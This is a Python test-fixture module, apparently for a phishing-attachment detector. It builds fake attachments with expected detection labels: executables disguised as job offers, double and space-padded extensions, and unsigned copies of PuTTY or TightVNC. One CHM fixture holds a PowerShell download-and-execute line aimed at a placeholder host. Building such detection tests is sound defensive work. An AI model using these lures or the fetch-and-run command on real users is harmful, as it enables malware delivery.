"""Constructions in programs and installers."""

from __future__ import annotations

from functools import partial

from lure.attachment.builders import executables as x
from lure.attachment.builders.packages import packed
from lure.attachment.builders.pdfs import pdf
from lure.attachment.construction import Construction, row


def _in_zip(name: str, data: bytes) -> bytes:
    return packed({name: data})


_PUTTY = partial(x.pe, signed=True, version=x.PUTTY)

_INSTALLER = partial(
    x.pe, signed=True, version={"ProductName": "Office Chat", "CompanyName": "Chat Ltd"}
)

_PROGRAM = "program_attached"

ROWS: tuple[Construction, ...] = (
    row(
        "pe: named as a document",
        "Job_Description.exe",
        x.pe,
        "document_is_program",
        _INSTALLER,
        twin_file="OfficeChatSetup.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: a document's extension",
        "offer.pdf",
        x.pe,
        "document_is_program file_magic_mismatch",
        pdf,
    ),
    row(
        "pe: two extensions",
        "offer.pdf.exe",
        x.pe,
        "document_is_program file_double_extension",
        _INSTALLER,
        twin_file="chat-2.1.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: a document's extension far away",
        "Salary.docx" + " " * 40 + ".scr",
        x.pe,
        "document_is_program file_name_padded",
        _INSTALLER,
        twin_file="chat.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: describes itself as a document",
        "view.exe",
        partial(x.pe, version={"FileDescription": "Microsoft Word Document"}),
        "document_is_program",
        partial(x.pe, signed=True, version={"FileDescription": "Viewer"}),
        ordinary=_PROGRAM,
    ),
    row(
        "pe: name in Korean",
        "연봉제안서.exe",
        x.pe,
        "document_is_program",
        _INSTALLER,
        twin_file="설치.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: name in Hebrew",
        "תיאור משרה.exe",
        x.pe,
        "document_is_program",
        _INSTALLER,
        twin_file="התקנה.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: name in Arabic",
        "عقد العمل.exe",
        x.pe,
        "document_is_program",
        _INSTALLER,
        twin_file="تثبيت.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: name in Polish",
        "umowa o prace.exe",
        x.pe,
        "document_is_program",
        _INSTALLER,
        twin_file="instalator.exe",
        ordinary=_PROGRAM,
    ),
    row(
        "pe: library called a document",
        "brochure.pdf",
        partial(x.pe, dll=True),
        "document_is_program",
        pdf,
    ),
    row(
        "tool without signature",
        "putty.exe",
        partial(x.pe, version=x.PUTTY),
        "tool_unsigned",
        _PUTTY,
        ordinary=_PROGRAM,
    ),
    row(
        "tool that says another maker",
        "putty.exe",
        partial(x.pe, signed=True, version={**x.PUTTY, "CompanyName": "Careers"}),
        "tool_not_release",
        _PUTTY,
        ordinary=_PROGRAM,
    ),
    row(
        "tool without a version",
        "putty.exe",
        x.pe,
        "tool_unsigned tool_not_release",
        _PUTTY,
        ordinary=_PROGRAM,
    ),
    row(
        "tool under another name",
        "assessment_client.exe",
        partial(x.pe, version=x.PUTTY),
        "tool_unsigned",
        _PUTTY,
        ordinary=_PROGRAM,
    ),
    row(
        "reader without signature",
        "SumatraPDF-3.5.2-64.exe",
        partial(x.pe, version={"ProductName": "SumatraPDF", "CompanyName": "Krzysztof Kowalczyk"}),
        "tool_unsigned",
        partial(
            x.pe,
            signed=True,
            version={"ProductName": "SumatraPDF", "CompanyName": "Krzysztof Kowalczyk"},
        ),
        ordinary=_PROGRAM,
    ),
    row(
        "viewer without signature, in a zip",
        "viewer.zip",
        lambda: _in_zip("tvnviewer.exe", x.pe(version={"ProductName": "TightVNC Viewer"})),
        "tool_unsigned tool_not_release program_in_container",
        lambda: _in_zip(
            "tvnviewer.exe",
            x.pe(
                signed=True,
                version={"ProductName": "TightVNC Viewer", "CompanyName": "GlavSoft LLC."},
            ),
        ),
        ordinary="program_in_container",
    ),
    row(
        "elf: named as a document",
        "HSBC job offer.pdf",
        x.elf,
        "document_is_program file_magic_mismatch",
        pdf,
    ),
    row(
        "elf: a job's name",
        "job_description",
        x.elf,
        "document_is_program",
        x.elf,
        twin_file="chat-linux",
        ordinary=_PROGRAM,
    ),
    row("macho: named as a document", "salary.pdf", x.macho, "document_is_program", pdf),
    row(
        "macho: universal, named as a document",
        "offer.docx",
        partial(x.macho, fat=True),
        "document_is_program",
        partial(x.macho, fat=True, signed=True),
        twin_file="chat",
        ordinary=_PROGRAM,
    ),
    row(
        "msi: named as a document",
        "Offer_Letter.msi",
        x.msi,
        "document_is_program program_attached",
        partial(x.msi, "Office Chat", signed=True),
        twin_file="chat.msi",
        ordinary=_PROGRAM,
    ),
    row(
        "jar: named as a document",
        "assessment.pdf.jar",
        lambda: packed(
            {
                "META-INF/MANIFEST.MF": "Main-Class: a.B\r\n",
                "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34",
            }
        ),
        "document_is_program",
        lambda: packed(
            {
                "META-INF/MANIFEST.MF": "Main-Class: a.B\r\n",
                "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34",
            }
        ),
        twin_file="lib.jar",
        ordinary=_PROGRAM,
    ),
    row(
        "script named as a document",
        "Job offer.vbs",
        lambda: b'Set s = CreateObject("WScript.Shell")\n',
        "document_is_program program_attached",
        lambda: b'Set s = CreateObject("WScript.Shell")\n',
        twin_file="backup.vbs",
        ordinary=_PROGRAM,
    ),
    row(
        "chm: command in help",
        "handbook.chm",
        lambda: (
            b"ITSF"
            + b"\0" * 80
            + b"<object classid=hhctrl> ShortCut powershell iwr https://docs.example | iex"
        ),
        "lnk_runs_shell",
        lambda: b"ITSF" + b"\0" * 80 + b"compiled help about a product",
        ordinary=_PROGRAM,
    ),
)
